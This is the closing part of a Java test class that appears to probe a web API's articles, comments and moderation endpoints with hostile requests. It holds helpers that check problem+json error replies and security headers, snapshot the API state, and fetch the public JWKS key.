        byte[] all = new byte[start.length + middle.length + end.length];
        System.arraycopy(start, 0, all, 0, start.length);
        System.arraycopy(middle, 0, all, start.length, middle.length);
        System.arraycopy(end, 0, all, start.length + middle.length, end.length);
        return all;
    }

    private static Hostile json(URI gateway, String methodAndPath, Map<String, ?> body, String token, String label) {
        return raw(gateway, methodAndPath, JSON.writeValueAsString(body), "application/json", token, label);
    }

    private static String problemViolation(Api.Reply reply) {
        if (reply.status() < 400 || reply.status() >= 500) {
            return "status " + reply.status();
        }
        if (!reply.contentType().startsWith("application/problem+json")) {
            return "content type '" + reply.contentType() + "'";
        }
        if (reply.response().request().method().equals("HEAD")) {
            return securityHeadersViolation(reply); // a HEAD answer has the headers of a GET and no body
        }
        JsonNode body = reply.body();
        for (String field : List.of("type", "title", "detail")) {
            if (!body.path(field).isString() || body.path(field).asString().isBlank()) {
                return "no " + field;
            }
        }
        if (body.path("status").asInt() != reply.status()) {
            return "status field " + body.path("status");
        }
        return securityHeadersViolation(reply);
    }

    private static String securityHeadersViolation(Api.Reply reply) {
        if (!reply.header("X-Content-Type-Options").orElse("").equals("nosniff")) {
            return "no nosniff header";
        }
        if (!reply.header("Content-Security-Policy").orElse("").contains("frame-ancestors 'none'")) {
            return "no Content-Security-Policy header";
        }
        return null;
    }

    /** What must not change: the article count, the known article, its comments, the queue, the rules. */
    private static Map<String, Object> snapshot(Api api, String token, String articleId) {
        Map<String, Object> state = new LinkedHashMap<>();
        state.put(
                "articles",
                api.get("/api/articles?page=0&size=1").body().path("total").asLong());
        JsonNode article = api.get("/api/articles/" + articleId).body();
        for (String field : List.of("title", "body", "commentsOpen", "closedAt", "commentCount")) {
            state.put("article." + field, article.path(field).toString());
        }
        JsonNode comments = api.get(commentsPath(articleId)).body();
        state.put("comments.total", comments.path("total").asLong());
        state.put("comments", comments.path("comments").toString());
        state.put(
                "queue.total",
                api.exchange(HttpRequest.newBuilder(api.gateway().resolve("/api/moderation/queue"))
                                .header("Authorization", "Bearer " + token))
                        .body()
                        .path("total")
                        .asLong());
        state.put(
                "rules",
                api.exchange(HttpRequest.newBuilder(api.gateway().resolve("/api/moderation/rules"))
                                .header("Authorization", "Bearer " + token))
                        .response()
                        .body());
        return state;
    }

    private static String jwks(Api api) {
        JsonNode keys = api.get("/.well-known/jwks.json").body().path("keys");
        assertThat(keys.size()).isPositive();
        return keys.get(0).path("n").asString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String b64(String value) {
        return b64(value.getBytes(StandardCharsets.UTF_8));
    }

    private static String b64(byte[] value) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(value);
    }

    private static String abbreviate(String body) {
        return body == null ? "" : body.substring(0, Math.min(200, body.length()));
    }
}
